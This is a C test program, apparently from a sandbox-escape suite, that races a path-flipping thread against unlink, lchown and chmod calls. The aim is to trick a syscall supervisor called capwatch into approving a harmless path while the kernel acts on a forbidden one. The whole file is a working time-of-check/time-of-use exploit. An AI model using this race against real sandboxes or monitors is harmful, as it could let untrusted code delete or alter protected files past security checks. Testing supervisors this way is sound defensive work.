/* E09 (path-mutating calls): a second thread flips the path of unlink,
 * lchown or chmod between GOOD and EVIL while the call waits for the
 * supervisor. GOOD is chosen by the test so that capwatch lets the kernel
 * do the call (a trailing slash, a symlink, a pseudo-device). A hit: EVIL
 * was removed / chowned to 1:1 / chmod'ed to 0777. */
#include "esc.h"
#include <pthread.h>

static char path[4096], good[4096], evil[4096];
static volatile int stop;

static void *flip(void *arg)
{
	(void)arg;
	while (!stop) {
		memcpy(path, evil, sizeof(path));
		__asm__ volatile("" ::: "memory");
		memcpy(path, good, sizeof(path));
		__asm__ volatile("" ::: "memory");
	}
	return NULL;
}

static int evil_hit(const char *mode)
{
	struct stat st;
	if (lstat(evil, &st) < 0)
		return !strcmp(mode, "unlink");
	if (!strcmp(mode, "lchown"))
		return st.st_uid == 1;
	if (!strcmp(mode, "chmod"))
		return (st.st_mode & 07777) == 0777;
	return 0;
}

int main(int argc, char **argv)
{
	esc_usage(argc, 5, "e09d_pathcall_flip SECONDS unlink|lchown|chmod GOOD EVIL");
	double end = esc_now() + atof(argv[1]);
	const char *mode = argv[2];
	snprintf(good, sizeof(good), "%s", argv[3]);
	snprintf(evil, sizeof(evil), "%s", argv[4]);
	memcpy(path, good, sizeof(path));
	pthread_t t;
	pthread_create(&t, NULL, flip, NULL);
	long attempts = 0, ok = 0, hits = 0;
	while (esc_now() < end && !hits) {
		int r;
		attempts++;
		if (!strcmp(mode, "unlink"))
			r = unlink(path);
		else if (!strcmp(mode, "lchown"))
			r = lchown(path, 1, 1);
		else
			r = chmod(path, 0777);
		if (r == 0) {
			ok++;
			hits += evil_hit(mode);
		}
	}
	stop = 1;
	pthread_join(t, NULL);
	esc_race_result(attempts, ok, hits);
	return 0;
}
